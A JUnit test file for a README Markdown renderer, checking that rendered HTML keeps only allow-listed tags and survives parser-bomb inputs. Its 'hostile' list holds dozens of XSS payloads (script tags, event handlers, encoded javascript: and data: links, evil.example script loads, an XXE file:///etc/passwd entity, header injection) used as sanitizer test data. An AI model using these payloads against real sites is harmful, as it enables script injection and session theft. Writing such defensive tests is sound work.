package io.slipway.web.readme;

import static org.assertj.core.api.Assertions.assertThat;

import io.slipway.content.Readme;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class MarkdownTest {

    /// All that a README may become: anything else in angle brackets, or any other attribute, is a hole.
    private static final Pattern TAG = Pattern.compile("<[^>]*>");
    private static final Pattern HARMLESS = Pattern.compile(
            "</?(?:p|br|hr|blockquote|code|ul|li|em|strong|b|i|s|del|ins|sub|sup|kbd|samp|var|q|dl|dt|dd|details"
                    + "|summary|thead|tbody|tfoot|tr|h[2-6]) ?/?>"
                    + "|</?(?:ol(?: start=\"\\d+\")?|(?:pre|table)(?: tabindex=\"0\")?)>"
                    + "|</?t[hd](?: align=\"(?:left|right|center)\")?>"
                    + "|<h[2-6] id=\"readme-[^\"<>]*\">"
                    + "|<a href=\"(?:https?://[^/\\s\"<>][^\\s\"<>]*|mailto:[^\\s\"<>]*|#readme-[^\\s\"<>]*)\""
                    + " rel=\"nofollow noopener ugc\">|</a>");

    private final Markdown markdown = new Markdown();

    @AfterEach
    void close() {
        markdown.close();
    }

    @Test
    void showsWhatReadmesAreMadeOf() {
        String html = html("""
                # Web
                Our **site**, ~~not~~ `yours`: https://example.org/a?b=c and [docs](https://example.org/docs "Docs").

                | Tag | Size |
                |:----|-----:|
                | 1.0 | 2 MB |

                - [x] done
                - [ ] open

                ## How to use it
                [above](#Web)

                ```sh
                docker run -p 80:80 web
                ```
                """);

        assertThat(html)
                .contains("<h2 id=\"readme-web\">Web</h2>", "<h3 id=\"readme-how-to-use-it\">")
                .contains("<strong>site</strong>", "<del>not</del>", "<code>yours</code>")
                .contains("<a href=\"https://example.org/a?b&#61;c\" rel=\"nofollow noopener ugc\">")
                .contains("<th align=\"left\">Tag</th>", "<td align=\"right\">2 MB</td>")
                .contains("☑ done", "☐ open")
                .contains("<a href=\"#readme-web\"")
                .contains("<pre tabindex=\"0\"><code>docker run -p 80:80 web");
        assertHarmless(html);
    }

    @Test
    void tellsHeadingsOfOneNameApart() {
        assertThat(html("# A\n# A\n# !")).contains("\"readme-a\"", "\"readme-a-1\"", "<h2>!</h2>");
    }

    @Test
    void makesLinksOfPictures() {
        String html = html("![Logo](https://tracker.example/p.png) "
                + "[![Build](https://ci.example/badge.svg)](https://ci.example/web) ![](https://x.example/y.png)");

        assertThat(html)
                .contains("<a href=\"https://tracker.example/p.png\" rel=\"nofollow noopener ugc\">Logo</a>")
                .contains("<a href=\"https://ci.example/web\" rel=\"nofollow noopener ugc\">Build</a>")
                .contains(">https://x.example/y.png</a>")
                .doesNotContain("badge.svg", "<img");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    @Tag("G1")
    @Tag("C14")
    void leavesNothingThatRuns(String text) {
        assertHarmless(html(text));
    }

    @ParameterizedTest
    @MethodSource("bombs")
    @Tag("G1")
    void isDoneSoonWithAnything(String bomb) {
        Instant start = Instant.now();
        String html = html(bomb.substring(0, Math.min(bomb.length(), Readme.MAX_BYTES)));

        assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(3));
        assertThat(html.length()).isLessThan(2 * 1_024 * 1_024);
        assertHarmless(html);
    }

    @Test
    void rendersATextOnce() {
        String html = html("# Once");

        assertThat(html("# Once")).isSameAs(html);
    }

    @Test
    void showsAsItWasTypedWhatGrowsTooLarge() {
        String text = "x |".repeat(1_500) + "\n" + "-|".repeat(1_500) + "\n" + "x\n".repeat(20_000);

        assertThat(html(text)).startsWith("<pre tabindex=\"0\">x |x |");
    }

    @Test
    void keepsNoMoreThan64KiB() {
        assertThat(Readme.parse("é".repeat(Readme.MAX_BYTES / 2))).isPresent();
        assertThat(Readme.parse("é".repeat(Readme.MAX_BYTES / 2) + "x")).isEmpty();
        assertThat(Readme.parse("[".repeat(1_024 * 1_024))).isEmpty();
        assertThat(Readme.parse("a\0b")).isEmpty();
        assertThat(Readme.parse("a\r\nb\rc").map(Readme::text)).contains("a\nb\nc");
        assertThat(Readme.parse(" \n ").map(Readme::isEmpty)).contains(true);
    }

    static Stream<String> hostile() {
        Stream<String> html = Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://tracker.example/p.png\">",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
                "<object data=x></object><embed src=x>",
                "<form action=/logout method=post><button>Go</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=https://evil.example/>",
                "<p style=\"position:fixed;inset:0\">over everything</p>",
                "<p class=\"btn\" id=main data-copy=x hx-get=/x data-hx-post=/logout>x</p>",
                "<h1 id=main>x</h1><h2 id=\"readme-x onclick=y\">x</h2>",
                "<b onclick=alert(1) onmouseover='alert(1)'>x</b>",
                "<a href=\"https://a.example\" onclick=alert(1) target=_top>x</a>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<!-- <script>alert(1)</script> -->",
                "<!--><script>alert(1)</script>-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
                "</div></main></body><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp><plaintext>x",
                "<textarea></textarea><script>alert(1)</script>",
                "**a<b <script>alert(1)</script>**",
                "`` `<script>alert(1)</script>` ``",
                "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
                "- [ ] <script>alert(1)</script>",
                "\u001b[31mred\u001b[0m\r\nSet-Cookie: a=b",
                "\u202Ereversed <scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "```<img src=x onerror=alert(1)>\n```",
                "[x]: javascript:alert(1) \"<script>\"\n[x]");
        List<String> targets = List.of(
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                " javascript:alert(1)",
                "java\tscript:alert(1)",
                "java&#10;script:alert(1)",
                "java&Tab;script:alert(1)",
                "&#106;avascript:alert(1)",
                "&#x6A&#x61&#x76&#x61script:alert(1)",
                "javascript&colon;alert(1)",
                "javascript&#58;alert(1)",
                "%6aavascript:alert(1)",
                "\u0001javascript:alert(1)",
                "vbscript:msgbox(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg onload=alert(1)>",
                "blob:https://evil.example/1",
                "file:///etc/passwd",
                "filesystem:https://x/y",
                "view-source:https://x",
                "//evil.example/x",
                "/\\evil.example",
                "\\\\evil.example\\x",
                "https:/\\evil.example",
                "https:evil.example",
                "http:///evil.example",
                "/logout",
                "../../settings",
                "?done=saved",
                "https://x.example/\"onmouseover=\"alert(1)",
                "https://x.example/'><script>alert(1)</script>",
                "#\"><script>alert(1)</script>",
                "mailto:a@example.org?body=<script>alert(1)</script>");
        Stream<String> links = targets.stream()
                .flatMap(target -> Stream.of(
                        "[x](" + target + ")",
                        "[x](<" + target + ">)",
                        "![x](" + target + ")",
                        "<" + target + ">",
                        "[x]\n\n[x]: " + target,
                        "<a href=\"" + target + "\">x</a>",
                        "<a href='" + target + "'>x</a>",
                        "<a href=" + target + ">x</a>",
                        "[![x](" + target + ")](" + target + ")"));
        return Stream.concat(html, links);
    }

    static Stream<String> bombs() {
        int size = Readme.MAX_BYTES;
        return Stream.of(
                        "[",
                        "![",
                        "[a](",
                        "[a][",
                        "<",
                        "<a ",
                        "*a ",
                        "**a ",
                        "_a ",
                        "***",
                        "~~a ",
                        "`",
                        "> ",
                        "- ",
                        "1. ",
                        "* a\n ",
                        "|",
                        "|\n",
                        "<b>",
                        "<table>",
                        "<details>",
                        "<ul><li>",
                        "&#",
                        "<!--",
                        "]",
                        "](",
                        "a@",
                        "https://",
                        "www.",
                        "# a\n",
                        "[a]: b\n[a]\n",
                        "\\",
                        "<![CDATA[",
                        "<?",
                        "<b a=\"")
                .map(piece -> piece.repeat(size / piece.length()))
                .flatMap(bomb -> Stream.of(bomb, bomb.substring(0, size / 2) + "]".repeat(size / 2)));
    }

    private String html(String text) {
        return markdown.html(new Readme(text.replace("\0", ""), Optional.empty()));
    }

    private static void assertHarmless(String html) {
        assertThat(TAG.matcher(html).results().map(tag -> tag.group()))
                .allMatch(tag -> HARMLESS.matcher(tag).matches());
        assertThat(TAG.matcher(html).replaceAll("")).doesNotContain("<");
    }
}
